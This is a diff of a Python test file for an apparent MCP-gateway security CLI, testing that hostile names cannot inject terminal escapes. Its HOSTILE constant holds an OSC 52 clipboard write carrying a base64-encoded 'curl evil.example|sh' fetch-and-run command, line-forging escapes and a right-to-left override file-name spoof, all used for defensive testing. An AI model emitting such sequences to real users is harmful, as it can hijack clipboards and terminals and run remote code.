@@ -11,54 +11,19 @@ from __future__ import annotations
 
 import json
 import os
-import pty
-import select
 import subprocess
-import time
 from pathlib import Path
 
 import orjson
 import pytest
+from cli_kit import on_a_terminal
 from gateway_attack_kit import MCPWARD
-
-import mcpward
 
 #: A clipboard write (OSC 52), the cursor one line up and the line erased, a LF and a CR that
 #: begin a forged line, and a right-to-left override.
 HOSTILE = "ok\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07\x1b[1A\x1b[2K\nall clear\r\u202etxt.exe"
 #: What must never reach the terminal raw.
 RAW = ("\x1b", "\x07", "\x9b", "\u202e")
-
-
-def _on_a_terminal(*args: str, env: dict[str, str] | None = None, stderr: bool = True) -> tuple[int, str]:
-    """The CLI's exit code and everything it wrote to its terminal (standard output, and error
-    unless ``stderr`` is false)."""
-    leader, follower = pty.openpty()
-    process = subprocess.Popen(
-        [*MCPWARD, *args],
-        stdin=subprocess.DEVNULL,
-        stdout=follower,
-        stderr=follower if stderr else subprocess.DEVNULL,
-        env={**os.environ, "PYTHONPATH": str(Path(mcpward.__file__).parents[1]), **(env or {})},
-    )
-    os.close(follower)
-    chunks: list[bytes] = []
-    deadline = time.monotonic() + 60
-    while time.monotonic() < deadline:
-        ready, _, _ = select.select([leader], [], [], 1)
-        if ready:
-            try:
-                chunk = os.read(leader, 65536)
-            except OSError:  # the follower closed: the process ended
-                break
-            if not chunk:
-                break
-            chunks.append(chunk)
-        elif process.poll() is not None:
-            break
-    os.close(leader)
-    code = process.wait(timeout=30)
-    return code, b"".join(chunks).decode("utf-8", "replace")
 
 
 def _lines_naming(text: str, word: str) -> list[str]:
@@ -72,7 +37,7 @@ def test_a_server_name_in_a_config_cannot_write_the_clipboard_through_wrap(tmp_p
         json.dumps({"mcpServers": {HOSTILE: {"command": "npx", "args": ["-y", "some-mcp@1.0.0"]}}}),
         encoding="utf-8",
     )
-    code, shown = _on_a_terminal(
+    code, shown = on_a_terminal(
         "wrap", "--dry-run", "--home", str(home), env={"MCPWARD_DATA_DIR": str(tmp_path / "data")}
     )
     assert code == 0, shown
@@ -106,7 +71,7 @@ def test_a_tool_name_a_server_lists_cannot_rewrite_the_terminal_through_pins_app
     pins = tmp_path / "pins.json"
     assert _session(pins, ["get_notes"]) == ["get_notes"]  # pinned on first use
     assert _session(pins, ["get_notes", HOSTILE]) == ["get_notes"]  # the new tool is withheld
-    code, shown = _on_a_terminal("pins", "approve", "notes", "--store", str(pins))
+    code, shown = on_a_terminal("pins", "approve", "notes", "--store", str(pins))
     assert code == 0, shown
     assert not any(raw in shown for raw in RAW), shown
     assert len(_lines_naming(shown, "approved")) == 1 and "\\x1b[1A\\x1b[2K\\x0aall clear" in shown
@@ -121,7 +86,7 @@ def test_a_file_name_in_a_scanned_tree_cannot_forge_a_line_of_the_scan(tmp_path:
     # folded just after its escaped newline (the temporary folder's name decides where), and the
     # fold, not the name, starts a line with the forged words (failed on such paths).
     wide = {"COLUMNS": "1000"}
-    code, shown = _on_a_terminal("scan", "--only-paths", "--path", str(tmp_path / "tree"), env=wide)
+    code, shown = on_a_terminal("scan", "--only-paths", "--path", str(tmp_path / "tree"), env=wide)
     assert code == 0, shown
     assert "Files that could not be read" in shown
     lines = shown.replace("\r\n", "\n").split("\n")
@@ -138,7 +103,7 @@ def test_a_report_printed_whole_on_a_terminal_carries_no_control(tmp_path: Path)
     )
     for fmt in ("json", "csv", "sarif"):
         # Standard error has the walk's progress line, drawn with escapes of mcpward's own.
-        code, shown = _on_a_terminal(
+        code, shown = on_a_terminal(
             "scan", "--only-paths", "--path", str(tmp_path), "--format", fmt, stderr=False
         )
         assert code == 0, shown
